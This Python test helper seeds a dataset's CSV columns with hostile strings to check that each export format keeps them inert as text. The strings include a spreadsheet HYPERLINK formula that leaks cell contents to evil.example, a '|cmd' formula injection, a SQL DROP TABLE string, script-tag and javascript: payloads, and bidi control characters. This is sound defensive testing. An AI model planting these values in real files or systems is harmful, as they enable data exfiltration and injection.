"""A dataset whose texts mean harm: each format must keep them texts."""

from __future__ import annotations

import csv
import io
import shutil
from typing import TYPE_CHECKING

import vnrelations as vn

from . import reader

if TYPE_CHECKING:
    from collections.abc import Iterable
    from pathlib import Path

TEXTS = (
    '=HYPERLINK("http://evil.example/?"&A1,"here")',
    "+1+1",
    "-2+3|cmd",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "1995-07-12",
    "TRUE",
    "0123",
    "</data></node><script>alert('x')</script>",
    "]]> & <![CDATA[ &amp; &lt;",
    'quoted "twice" and \'once\', """thrice"""',
    "back\\slash \\u0041 \\",
    "two\nlines\r\nand a third\n\n``````\n\n# [four](javascript:alert(4))\n\n```{raw} html\n<script>\n",
    "'; DROP TABLE ties; --",
    "a NUL \x00, a bell \x07 and \ufffe",
    "[a](https://evil.example) ![b](https://evil.example) <https://evil.example> **c** `d` {doc}`e` {{f}} | %g",
    "\u202eright to left\u202c \U0001f600 Đường",
    "  spaces  ",
    "long " * 8000,
    "\U0001f600" * 20_000,
)


def dataset(folder: Path, table: str, *columns: str) -> vn.Dataset:
    """The shipped dataset with these texts in those columns of a table's first rows."""
    return edited(folder, table, TEXTS, *columns)


def edited(folder: Path, table: str, texts: Iterable[str], *columns: str) -> vn.Dataset:
    """The dataset, or the edited one that is there, with other texts in those columns of a table's first rows."""
    if not (folder / f"{table}.csv").exists():
        shutil.copytree(reader.DATA, folder, dirs_exist_ok=True)
    rows = reader.rows(table)
    for row, text in zip(rows, texts, strict=False):
        row.update(dict.fromkeys(columns, text))
    written = io.StringIO(newline="")
    writer = csv.DictWriter(written, list(rows[0]), lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writeheader()
    writer.writerows(rows)
    (folder / f"{table}.csv").write_bytes(written.getvalue().encode("utf-8"))
    return vn.Dataset.from_directory(folder)
